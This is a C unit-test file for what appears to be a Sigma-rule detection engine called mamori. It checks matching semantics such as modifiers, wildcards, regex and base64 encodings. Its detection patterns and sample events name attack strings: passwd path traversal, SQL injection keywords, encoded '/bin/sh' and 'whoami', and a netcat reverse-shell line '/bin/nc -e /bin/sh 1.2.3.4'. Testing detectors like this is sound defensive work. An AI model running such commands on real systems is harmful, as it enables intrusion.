/* mamori — Sigma matching semantics (Sigma Rules Specification v2): every
 * value modifier, wildcards and their escaping, null/empty/number values,
 * keywords, lists and maps, field references. Each count is checked with the
 * prefilter on and off (helpers.h). */
#include "helpers.h"

/* A rule over category webserver with the given detection body (indented by
 * four spaces under `detection:`), using ECS field names directly. */
static struct mm_ruleset *det(const char *body)
{
	char buf[8192];
	snprintf(buf, sizeof(buf),
	         "title: t\nid: r1\nlogsource:\n    category: webserver\ndetection:\n%s", body);
	struct mm_ruleset *rs = load(buf);
	const struct mm_rule_status *st = status0(rs);
	if (st->state != MM_RULE_LOADED)
		fail_msg("rule not loaded: %s", st->reason ? st->reason : "?");
	return rs;
}

static bool url_matches(struct mm_ruleset *rs, const char *url)
{
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_ORIGINAL, url);
	return matches(rs, &t);
}

static void test_plain_equality_case_insensitive(void **s)
{
	struct mm_ruleset *rs = det("    sel:\n        url.original: '/Admin'\n    condition: sel\n");
	assert_true(url_matches(rs, "/admin"));
	assert_true(url_matches(rs, "/ADMIN"));
	assert_false(url_matches(rs, "/admin/x"));
	assert_false(url_matches(rs, "x/admin"));
	mm_ruleset_free(rs);
}

static void test_contains_startswith_endswith(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.original|contains: 'etc/passwd'\n"
	                            "    condition: a\n");
	assert_true(url_matches(rs, "/x?f=../../ETC/passwd&y"));
	assert_false(url_matches(rs, "/etc/shadow"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|startswith: '/cgi-bin/'\n    condition: a\n");
	assert_true(url_matches(rs, "/cgi-bin/test.sh"));
	assert_false(url_matches(rs, "/x/cgi-bin/"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|endswith: '.php'\n    condition: a\n");
	assert_true(url_matches(rs, "/shell.PHP"));
	assert_false(url_matches(rs, "/shell.php?x"));
	mm_ruleset_free(rs);
}

static void test_list_or_and_all(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.original|contains:\n            - 'union'\n"
	                            "            - 'select'\n    condition: a\n");
	assert_true(url_matches(rs, "/?q=union"));
	assert_true(url_matches(rs, "/?q=select"));
	assert_false(url_matches(rs, "/?q=none"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|contains|all:\n            - 'union'\n"
	         "            - 'select'\n    condition: a\n");
	assert_true(url_matches(rs, "/?q=union+select"));
	assert_false(url_matches(rs, "/?q=union"));
	assert_false(url_matches(rs, "/?q=select"));
	mm_ruleset_free(rs);
}

static void test_wildcards_and_escapes(void **s)
{
	/* * any run, ? one char */
	struct mm_ruleset *rs = det("    a:\n        url.original: '/a*b?d'\n    condition: a\n");
	assert_true(url_matches(rs, "/axxxbcd"));
	assert_true(url_matches(rs, "/abcd"));
	assert_false(url_matches(rs, "/abd"));
	assert_false(url_matches(rs, "/abcde"));
	mm_ruleset_free(rs);
	/* \* is a literal star */
	rs = det("    a:\n        url.original: 'a\\*b'\n    condition: a\n");
	assert_true(url_matches(rs, "a*b"));
	assert_false(url_matches(rs, "axxb"));
	mm_ruleset_free(rs);
	/* \? literal question mark */
	rs = det("    a:\n        url.original: 'a\\?b'\n    condition: a\n");
	assert_true(url_matches(rs, "a?b"));
	assert_false(url_matches(rs, "axb"));
	mm_ruleset_free(rs);
	/* \\ is one backslash; \\* is backslash then wildcard */
	rs = det("    a:\n        url.original: 'C:\\\\*'\n    condition: a\n");
	assert_true(url_matches(rs, "C:\\Windows"));
	assert_false(url_matches(rs, "C:/Windows"));
	mm_ruleset_free(rs);
	/* a backslash before another character is literal */
	rs = det("    a:\n        url.original: 'C:\\Windows\\'\n    condition: a\n");
	assert_true(url_matches(rs, "c:\\windows\\"));
	assert_false(url_matches(rs, "c:\\windows"));
	mm_ruleset_free(rs);
	/* a lone * matches anything present (but not an absent field) */
	rs = det("    a:\n        url.original: '*'\n    condition: a\n");
	assert_true(url_matches(rs, ""));
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_cased(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.original|contains|cased: 'Admin'\n"
	                            "    condition: a\n");
	assert_true(url_matches(rs, "/x/Admin/"));
	assert_false(url_matches(rs, "/x/admin/"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|cased: 'A*z'\n    condition: a\n");
	assert_true(url_matches(rs, "Abcz"));
	assert_false(url_matches(rs, "abcz"));
	mm_ruleset_free(rs);
}

static void test_regex(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.original|re: '^/id=[0-9]+$'\n"
	                            "    condition: a\n");
	assert_true(url_matches(rs, "/id=42"));
	assert_false(url_matches(rs, "/id=x"));
	assert_false(url_matches(rs, "/ID=42")); /* regexes are case-sensitive */
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|re|i: '^/id=[0-9]+$'\n    condition: a\n");
	assert_true(url_matches(rs, "/ID=42"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|re|s: 'a.b'\n    condition: a\n");
	assert_true(url_matches(rs, "a\nb"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|re|m: '^b$'\n    condition: a\n");
	assert_true(url_matches(rs, "a\nb\nc"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|re: '^b$'\n    condition: a\n");
	assert_false(url_matches(rs, "a\nb\nc"));
	mm_ruleset_free(rs);
}

static void test_regex_errors(void **s)
{
	struct mm_ruleset *rs = load("title: t\nlogsource:\n  category: webserver\ndetection:\n"
	                             "  a:\n    url.original|re: 'a(b'\n  condition: a\n");
	const struct mm_rule_status *st = status0(rs);
	assert_int_equal(st->state, MM_RULE_UNSUPPORTED);
	assert_non_null(strstr(st->reason, "regex error at offset 3"));
	assert_non_null(strstr(st->reason, "missing closing parenthesis"));
	assert_int_equal(mm_ruleset_rule_count(rs), 0);
	mm_ruleset_free(rs);

	/* catastrophic backtracking hits the match limit: counted, not fatal */
	rs = det("    a:\n        url.original|re: '^(a+)+$'\n    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_ORIGINAL, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab");
	struct mm_detector *d = mm_detector_new(rs);
	assert_int_equal(mm_detect_event(d, &t.ev, NULL, NULL), 0);
	struct mm_detect_stats stats;
	mm_detector_stats(d, &stats);
	assert_int_equal(stats.regex_errors, 1);
	mm_detector_free(d);
	mm_ruleset_free(rs);
}

static void test_cidr(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        source.ip|cidr:\n            - '10.0.0.0/8'\n"
	                            "            - '2001:db8::/32'\n    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_SOURCE_IP, "10.1.2.3");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_SOURCE_IP, "2001:db8::1");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_SOURCE_IP, "11.1.2.3");
	assert_false(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_SOURCE_IP, "not-an-ip");
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
}

static bool status_is(struct mm_ruleset *rs, const char *v)
{
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_HTTP_RESPONSE_STATUS, v);
	return matches(rs, &t);
}

static void test_numeric(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        http.response.status_code|gte: 500\n"
	                            "    b:\n        http.response.status_code|lt: 200\n"
	                            "    condition: a or b\n");
	assert_true(status_is(rs, "500"));
	assert_true(status_is(rs, "503"));
	assert_true(status_is(rs, "199"));
	assert_false(status_is(rs, "200"));
	assert_false(status_is(rs, "404"));
	assert_false(status_is(rs, "abc"));
	mm_ruleset_free(rs);
	rs = det("    a:\n        http.response.status_code|lte: 1.5\n"
	         "    b:\n        http.response.status_code|gt: 1000\n    condition: a or b\n");
	assert_true(status_is(rs, "1.5"));
	assert_true(status_is(rs, "-3"));
	assert_false(status_is(rs, "1000"));
	assert_true(status_is(rs, "1001"));
	mm_ruleset_free(rs);
	/* plain numbers compare as strings and, on numeric fields, as numbers */
	rs = det("    a:\n        http.response.status_code: 404\n    condition: a\n");
	assert_true(status_is(rs, "404"));
	assert_true(status_is(rs, "0404"));
	assert_false(status_is(rs, "4040"));
	mm_ruleset_free(rs);
	/* negative numbers: other spellings still match numerically */
	rs = det("    a:\n        http.response.status_code: -5\n    condition: a\n");
	assert_true(status_is(rs, "-05"));
	assert_true(status_is(rs, "-5"));
	assert_false(status_is(rs, "5"));
	mm_ruleset_free(rs);
	/* booleans are strings */
	rs = det("    a:\n        url.original: true\n    condition: a\n");
	assert_true(url_matches(rs, "TRUE"));
	assert_false(url_matches(rs, "1"));
	mm_ruleset_free(rs);
}

static void test_null_and_empty(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.query: null\n    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	assert_true(matches(rs, &t)); /* absent */
	tev_set(&t, MM_F_URL_QUERY, "");
	assert_true(matches(rs, &t)); /* empty */
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "a=1");
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);

	rs = det("    a:\n        url.query: ''\n    condition: a\n");
	tev_init(&t, NULL, "webserver", NULL);
	assert_false(matches(rs, &t)); /* absent is not the empty string */
	tev_set(&t, MM_F_URL_QUERY, "");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);

	/* not null = present and non-empty */
	rs = det("    a:\n        url.query: null\n    condition: not a\n");
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "x");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_exists(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.query|exists: true\n"
	                            "    b:\n        user.name|exists: false\n"
	                            "    condition: a and b\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "");
	assert_true(matches(rs, &t));
	tev_set(&t, MM_F_USER_NAME, "bob");
	assert_false(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_fieldref(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        user.name|fieldref: user.id\n    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_USER_NAME, "Root");
	tev_set(&t, MM_F_USER_ID, "root");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_USER_NAME, "root");
	tev_set(&t, MM_F_USER_ID, "0");
	assert_false(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_USER_NAME, "root");
	assert_false(matches(rs, &t)); /* the referenced field is absent */
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.original|fieldref|contains: user.name\n    condition: a\n");
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_ORIGINAL, "/home/alice/x");
	tev_set(&t, MM_F_USER_NAME, "ALICE");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_base64(void **s)
{
	/* base64("/bin/sh") = "L2Jpbi9zaA==" */
	struct mm_ruleset *rs = det("    a:\n        url.query|base64: '/bin/sh'\n"
	                            "    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "L2Jpbi9zaA==");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
	/* base64offset|contains finds the value at any offset of a base64 text:
	 * "xxx/bin/sh", "x/bin/sh", "xx/bin/sh" */
	rs = det("    a:\n        url.query|base64offset|contains: '/bin/sh'\n"
	         "    condition: a\n");
	const char *enc[] = {"eHh4L2Jpbi9zaA==", "eC9iaW4vc2g=", "eHgvYmluL3No"};
	for (size_t i = 0; i < 3; i++) {
		tev_init(&t, NULL, "webserver", NULL);
		tev_set(&t, MM_F_URL_QUERY, enc[i]);
		assert_true(matches(rs, &t));
	}
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "eHh4L2Jpbi9iYXNo"); /* xxx/bin/bash */
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
	/* with wildcards: unsupported, with the reason */
	rs = load("title: t\nlogsource:\n  category: webserver\ndetection:\n"
	          "  a:\n    url.query|base64: 'a*'\n  condition: a\n");
	assert_int_equal(status0(rs)->state, MM_RULE_UNSUPPORTED);
	assert_non_null(strstr(status0(rs)->reason, "wildcards"));
	mm_ruleset_free(rs);
}

static void test_utf16_base64(void **s)
{
	/* PowerShell -EncodedCommand: UTF-16LE then base64.
	 * utf16le("whoami") base64 = "dwBoAG8AYQBtAGkA" */
	struct mm_ruleset *rs = det("    a:\n        url.query|wide|base64: 'whoami'\n"
	                            "    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "dwBoAG8AYQBtAGkA");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
	rs = det("    a:\n        url.query|utf16le|base64offset|contains: 'whoami'\n"
	         "    condition: a\n");
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "-enc dwBoAG8AYQBtAGkA");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
	/* utf16be("ab") = 00 61 00 62 → "AGEAYg==" ; utf16 adds the FF FE BOM:
	 * FF FE 61 00 62 00 → "//5hAGIA" */
	rs = det("    a:\n        url.query|utf16be|base64: 'ab'\n"
	         "    b:\n        url.path|utf16|base64: 'ab'\n    condition: a or b\n");
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "AGEAYg==");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_PATH, "//5hAGIA");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_windash(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        url.query|windash|contains: ' -exec '\n"
	                            "    condition: a\n");
	const char *yes[] = {"x -exec y", "x /exec y", "x \xe2\x80\x93" "exec y",
	                     "x \xe2\x80\x94" "exec y", "x \xe2\x80\x95" "exec y"};
	struct tev t;
	for (size_t i = 0; i < 5; i++) {
		tev_init(&t, NULL, "webserver", NULL);
		tev_set(&t, MM_F_URL_QUERY, yes[i]);
		assert_true(matches(rs, &t));
	}
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_QUERY, "x +exec y");
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_keywords(void **s)
{
	struct mm_ruleset *rs = det("    keywords:\n        - 'union select'\n        - 'sleep(*)'\n"
	                            "    condition: keywords\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_msg(&t, "GET /?q=1 UNION SELECT 2");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_msg(&t, "GET /?q=sleep(10)--");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_msg(&t, "GET /index.html");
	assert_false(matches(rs, &t));
	/* without msg, keywords search the raw line */
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_ORIGINAL, "/?q=union select");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
	/* a single keyword string and keyword |all */
	rs = det("    kw: 'passwd'\n    condition: kw\n");
	tev_init(&t, NULL, "webserver", NULL);
	tev_msg(&t, "cat /etc/passwd");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
	rs = det("    kw:\n        '|all':\n            - 'a1'\n            - 'b2'\n"
	         "    condition: kw\n");
	tev_init(&t, NULL, "webserver", NULL);
	tev_msg(&t, "b2 and a1");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_msg(&t, "b2 only");
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_maps_and_list_of_maps(void **s)
{
	/* map = AND; list of maps = OR */
	struct mm_ruleset *rs = det("    sel:\n        - http.request.method: 'POST'\n"
	                            "          url.path: '/login'\n"
	                            "        - url.path: '/admin'\n    condition: sel\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_HTTP_REQUEST_METHOD, "POST");
	tev_set(&t, MM_F_URL_PATH, "/login");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_HTTP_REQUEST_METHOD, "GET");
	tev_set(&t, MM_F_URL_PATH, "/login");
	assert_false(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_set(&t, MM_F_URL_PATH, "/admin");
	assert_true(matches(rs, &t));
	mm_ruleset_free(rs);
}

static void test_extra_fields(void **s)
{
	/* names outside the dictionary are looked up among the extra keys */
	struct mm_ruleset *rs = det("    a:\n        process.command_line|contains: 'nc -e'\n"
	                            "    condition: a\n");
	struct tev t;
	tev_init(&t, NULL, "webserver", NULL);
	tev_extra(&t, "process.command_line", "/bin/nc -e /bin/sh 1.2.3.4");
	assert_true(matches(rs, &t));
	tev_init(&t, NULL, "webserver", NULL);
	tev_extra(&t, "process.other", "/bin/nc -e /bin/sh 1.2.3.4");
	assert_false(matches(rs, &t));
	mm_ruleset_free(rs);
}

/* Matches of one event through detector d (kept across events). */
static size_t detect1(struct mm_detector *d, struct tev *t)
{
	uint64_t hit = 0;
	return mm_detect_event(d, &t->ev, collect, &hit);
}

/* Extras are found by slot (match.c x_fill): with one detector over a run
 * of events, a value of an earlier event must never answer for a later one,
 * the first of two extras with the same key is the one read, and a field
 * only a routing or fieldref reads is found too. */
static void test_extra_fields_across_events(void **s)
{
	struct mm_ruleset *rs = det("    a:\n        process.command_line|contains: 'nc -e'\n"
	                            "    b:\n        process.user|fieldref: process.owner\n"
	                            "    condition: a or b\n");
	struct mm_detector *d = mm_detector_new(rs);
	struct tev t;
	/* each event: extras (key, value)…, then whether the rule matches */
	static const struct {
		const char *kv[4];
		size_t want;
	} evs[] = {
		{{"process.command_line", "/bin/nc -e /bin/sh"}, 1},
		{{"process.other", "/bin/nc -e /bin/sh"}, 0}, /* absent now */
		{{"process.command_line", "ls -l", "process.command_line", "/bin/nc -e /bin/sh"}, 0},
		{{"process.command_line", "nc -e x", "process.command_line", "ls"}, 1},
		{{"process.owner", "Alice", "process.user", "alice"}, 1}, /* fieldref */
		{{"process.user", "alice"}, 0},
	};
	for (int round = 0; round < 2; round++) {
		mm_detector_set_prefilter(d, round == 0);
		for (size_t i = 0; i < MM_ARRAY_LEN(evs); i++) {
			tev_init(&t, NULL, "webserver", NULL);
			for (size_t k = 0; k < 4 && evs[i].kv[k]; k += 2)
				tev_extra(&t, evs[i].kv[k], evs[i].kv[k + 1]);
			if (detect1(d, &t) != evs[i].want)
				fail_msg("event %zu (prefilter %s): want %zu", i, round ? "off" : "on",
				         evs[i].want);
		}
	}
	mm_detector_free(d);
	mm_ruleset_free(rs);
}

static void test_unsupported_modifiers(void **s)
{
	struct mm_ruleset *rs = load("title: t\nlogsource:\n  category: webserver\ndetection:\n"
	                             "  a:\n    url.path|expand: '%admins%'\n  condition: a\n");
	assert_int_equal(status0(rs)->state, MM_RULE_UNSUPPORTED);
	assert_string_equal(status0(rs)->reason,
	                    "modifier 'expand' needs placeholder values: none configured for "
	                    "%admins% (line 6; a pipeline's vars and value_placeholders, or "
	                    "wildcard_placeholders)");
	mm_ruleset_free(rs);
	rs = load("title: t\nlogsource:\n  category: webserver\ndetection:\n"
	          "  a:\n    url.path|frobnicate: 'x'\n  condition: a\n");
	assert_int_equal(status0(rs)->state, MM_RULE_INVALID);
	assert_string_equal(status0(rs)->reason, "unknown modifier 'frobnicate' in 'url.path|frobnicate'");
	mm_ruleset_free(rs);
	rs = load("title: t\nlogsource:\n  category: webserver\ndetection:\n"
	          "  a:\n    url.path|i: 'x'\n  condition: a\n");
	assert_int_equal(status0(rs)->state, MM_RULE_INVALID);
	mm_ruleset_free(rs);
	rs = load("title: t\nlogsource:\n  category: webserver\ndetection:\n"
	          "  a:\n    url.path|cidr: 'nope'\n  condition: a\n");
	assert_int_equal(status0(rs)->state, MM_RULE_INVALID);
	assert_non_null(strstr(status0(rs)->reason, "CIDR"));
	mm_ruleset_free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_equality_case_insensitive),
		cmocka_unit_test(test_contains_startswith_endswith),
		cmocka_unit_test(test_list_or_and_all),
		cmocka_unit_test(test_wildcards_and_escapes),
		cmocka_unit_test(test_cased),
		cmocka_unit_test(test_regex),
		cmocka_unit_test(test_regex_errors),
		cmocka_unit_test(test_cidr),
		cmocka_unit_test(test_numeric),
		cmocka_unit_test(test_null_and_empty),
		cmocka_unit_test(test_exists),
		cmocka_unit_test(test_fieldref),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_utf16_base64),
		cmocka_unit_test(test_windash),
		cmocka_unit_test(test_keywords),
		cmocka_unit_test(test_maps_and_list_of_maps),
		cmocka_unit_test(test_extra_fields),
		cmocka_unit_test(test_extra_fields_across_events),
		cmocka_unit_test(test_unsupported_modifiers),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
